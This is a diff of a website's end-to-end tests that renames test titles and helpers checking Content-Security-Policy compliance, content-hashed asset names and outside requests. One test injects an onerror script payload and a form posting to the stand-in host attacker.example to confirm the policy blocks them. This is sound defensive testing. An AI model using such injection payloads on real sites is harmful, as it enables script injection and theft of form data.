@@ -8,7 +8,7 @@ import { hydrateIsland, islandControl } from "../support/island";
 
 withBuiltSite();
 
-test("what hosts may keep for a year is named after its content", () => {
+test("immutable files are named after their content", () => {
   const files = caching.immutableFolders.flatMap((folder) =>
     readdirSync(`public${folder}`, { recursive: true, withFileTypes: true })
       .filter((entry) => entry.isFile())
@@ -17,8 +17,8 @@ test("what hosts may keep for a year is named after its content", () => {
   expect(files.filter((file) => !/[\da-f]{8}/.test(file))).toEqual([]);
 });
 
-/** Notes what the browser refuses because of the Content-Security-Policy. */
-function watch(page: Page): Promise<unknown> {
+/** Records CSP violations. */
+function recordViolations(page: Page): Promise<unknown> {
   return page.addInitScript(() => {
     const refused: string[] = [];
     Object.assign(window, { refused });
@@ -29,12 +29,12 @@ function watch(page: Page): Promise<unknown> {
 }
 
 const refusedOn = (page: Page): Promise<string[]> => page.evaluate("window.refused");
-/** Set by texts of data/ that are taken for a script. */
+/** Set by texts of data/ if they run as scripts. */
 const isHacked = (page: Page) => page.evaluate(() => "hacked" in window);
 
-async function watchedVisit(path: string): Promise<Visit> {
+async function visitRecorded(path: string): Promise<Visit> {
   const visit = await newVisit();
-  await watch(visit.page);
+  await recordViolations(visit.page);
   await visit.page.goto(siteUrl(path));
   return visit;
 }
@@ -42,10 +42,10 @@ async function watchedVisit(path: string): Promise<Visit> {
 const isForeign = (address: string) => !address.startsWith(siteUrl("/")) && !address.startsWith("data:");
 const isMap = (address: string) => address.startsWith("https://www.openstreetmap.org/export/embed.html?");
 
-const open = sharedTab({}, watch);
+const open = sharedTab({}, recordViolations);
 
 test.each(everyPath)(
-  "%s keeps to its policy, stores nothing, and asks nobody else but the map",
+  "%s violates no policy, stores nothing and requests only the map from other sites",
   async (path) => {
     const { page, problems, requests } = await open(path);
     if (await page.locator(islandControl).count()) await hydrateIsland(page);
@@ -67,8 +67,8 @@ test.each(everyPath)(
   },
 );
 
-test("neither the menu, nor the notices, whose library brings its own styles, nor the map break the policy", async () => {
-  const { page, problems } = await watchedVisit("/contact");
+test("menu, notices and map violate no policy", async () => {
+  const { page, problems } = await visitRecorded("/contact");
   await sendButton(page).click();
   const container = page.locator(".notistack-SnackbarContainer");
   await container.waitFor();
@@ -81,15 +81,15 @@ test("neither the menu, nor the notices, whose library brings its own styles, no
   expect(problems).toEqual([]);
 });
 
-test("an injected script does not run, an injected style does not apply, a form goes nowhere else", async () => {
-  const { page } = await watchedVisit("/");
+test("injected scripts, styles and form targets are blocked", async () => {
+  const { page } = await visitRecorded("/");
   await page.evaluate(() => {
     document.body.insertAdjacentHTML(
       "beforeend",
       `<style>h1 { display: none }</style><img src="x" onerror="window.hacked = 1" alt="">
        <form action="https://attacker.example/" method="post"></form>`,
     );
-    // Not by a click: the page's own script would hold that back.
+    // Not by a click, which the page's script would intercept.
     [...document.forms].at(-1)?.submit();
   });
   await page.waitForFunction(
